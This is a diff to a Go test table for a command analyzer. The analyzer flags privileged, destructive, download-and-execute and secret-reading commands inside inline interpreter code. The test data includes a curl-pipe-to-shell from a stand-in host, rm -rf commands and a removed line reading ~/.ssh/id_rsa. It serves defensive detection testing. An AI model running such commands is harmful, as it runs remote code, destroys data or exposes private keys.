@@ -150,7 +150,7 @@ func TestAnalyzeSpans(t *testing.T) {
 		{"python subprocess shell", argv("python", "-c", `import subprocess; subprocess.run("sudo systemctl stop x", shell=True)`), []hit{{privilege, "sudo"}}},
 		{"node execSync", argv("node", "-e", "require('child_process').execSync('curl -s https://x.example/i | sh')"),
 			[]hit{{downloadExec, "curl -s https://x.example/i | sh"}}},
-		{"node --eval= exec", argv("node", "--eval=require('child_process').exec(\"cat ~/.ssh/id_rsa\")"), []hit{{sensitive, "~/.ssh/id_rsa"}}},
+		{"node --eval= exec", argv("node", "--eval=require('child_process').exec(\"rm -rf /srv/data\")"), []hit{{destructive, "rm -rf"}}},
 		{"perl system", argv("perl", "-e", `system("sudo id")`), []hit{{privilege, "sudo"}}},
 		{"ruby system", argv("ruby", "-e", "puts 1; system('rm -rf /tmp/x')"), []hit{{destructive, "rm -rf"}}},
 		{"inline code, harmless command", argv("python3", "-c", "import os; os.system('ls -l')"), nil},
